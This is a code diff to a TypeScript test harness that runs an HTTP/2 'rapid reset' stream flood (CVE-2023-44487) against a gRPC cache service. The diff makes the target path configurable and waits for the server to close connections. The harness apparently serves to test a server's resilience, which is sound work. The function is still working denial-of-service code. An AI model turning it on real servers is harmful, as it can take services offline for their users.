@@ -21,7 +21,7 @@ import {
   settingsFrame,
   type Frame,
   type RawHttp2Connection,
-} from './raw-http2.js';
+} from './raw-http2.ts';
 
 const SERVICE = '/cache.v1.CacheGrpcService';
 export const PATHS = {
@@ -84,7 +84,7 @@ const fields = (path: string, extra: ReadonlyArray<readonly [string, string]> = 
  * (CVE-2023-44487). The request before the reset is in turn nothing, part of a message and a whole
  * one. A connection the server closes is replaced.
  */
-export async function resetStorm(port: number, streams: number): Promise<AttackReport> {
+export async function resetStorm(port: number, streams: number, path = PATHS.get): Promise<AttackReport> {
   const report = newReport();
   const whole = grpcFrame(messages.get('reset'));
   const bodies = [undefined, whole.subarray(0, 7), whole];
@@ -92,7 +92,7 @@ export async function resetStorm(port: number, streams: number): Promise<AttackR
   const resetStream = (id: number, n: number): Buffer => {
     const ended = Math.floor(n / 14) % 2 === 1;
     const body = bodies[Math.floor(n / 28) % 3];
-    const request = body === undefined ? [headersFrame(id, fields(PATHS.get), ended)] : [headersFrame(id, fields(PATHS.get)), dataFrame(id, body, ended)];
+    const request = body === undefined ? [headersFrame(id, fields(path), ended)] : [headersFrame(id, fields(path)), dataFrame(id, body, ended)];
     return Buffer.concat([...request, rstStreamFrame(id, n % 14)]);
   };
   let sent = 0;
@@ -104,7 +104,7 @@ export async function resetStorm(port: number, streams: number): Promise<AttackR
       for (let i = 0; i < 100 && sent < streams; i++, sent++, id += 2) batch.push(resetStream(id, sent));
       await connection.send(...batch);
     }
-    await sleep(10);
+    await connection.waitClosed(200);
     tally(report, connection);
     connection.destroy();
   }
